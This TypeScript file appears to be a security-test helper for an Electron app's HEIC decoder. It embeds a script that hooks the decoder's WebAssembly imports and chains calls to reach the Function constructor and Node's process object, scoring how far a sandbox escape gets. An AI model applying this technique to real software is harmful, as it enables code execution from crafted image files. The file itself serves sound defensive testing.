/**
 * What a file's maker could do who has the HEIC decoder's memory and calls the functions it imports with whatever arguments: as text, to run beside the decoder's
 * script in any realm. `attack` takes the way from a plain object to `Function` and to `process` in calls by name alone.
 */
import { INSIDE } from '../../electron/dossier/evidence/heic/inside.ts';

/** Results of `attack`. */
export const REACHED = { nothing: 0, aFunction: 1, process: 2 } as const;

/** `attack(0)` with the imports as the decoder's script gives them, `attack(1)` as its module has them. `grow`: bytes of memory when it gives no more. */
export const ATTACK = `(() => {
  const real = libheif;
  const taken = [];
  let memory, anyValue;
  libheif = (options) => real({ ...options, instantiateWasm: (imports, done) => {
    const own = Object.values(imports)[0];
    // The only one that takes nothing but a type's address names the type of any value.
    const named = Object.keys(own).find((name) => String(own[name]) === 'e=>U(e,it)');
    const plain = own[named];
    own[named] = (type) => plain((anyValue = type));
    taken.push({ ...own });
    return options.instantiateWasm(imports, (instance) => {
      taken.push({ ...own });
      memory = Object.values(instance.exports).find((one) => one instanceof WebAssembly.Memory);
      return done(instance);
    });
  } });
  const inside = ${INSIDE};
  const [WORDS, TYPES, GIVEN, LEFT] = [8, 9, 10, 11].map((megabytes) => megabytes << 20);
  const put = (at, ...values) => new Uint32Array(memory.buffer, at, values.length).set(values);
  const text = (words) => (new Uint8Array(memory.buffer, WORDS, words.length + 1).set([...words, '\\0'].map((one) => one.charCodeAt(0))), WORDS);
  const start = () => inside.start();
  return {
    ...inside,
    start,
    attack: (which) => {
      const imports = taken[which];
      const call = (value, name, ...given) => {
        put(TYPES, ...Array(given.length + 1).fill(anyValue));
        given.forEach((one, index) => put(GIVEN + index * 8, one));
        return imports.N(imports.O(given.length + 1, TYPES, 0), value, text(name), LEFT, GIVEN);
      };
      let reached = 0;
      try {
        const getter = call(imports.l(), '__lookupGetter__', imports.h(text('__proto__')));
        reached = 1;
        const made = call(getter, 'constructor', imports.h(text('globalThis.found = globalThis.process')));
        call(made, 'call');
        if (globalThis.found !== undefined) reached = 2;
      } catch {}
      return reached;
    },
    grow: () => {
      for (const pages of [256, 1]) try { for (;;) memory.grow(pages); } catch {}
      return memory.buffer.byteLength;
    },
  };
})()`;
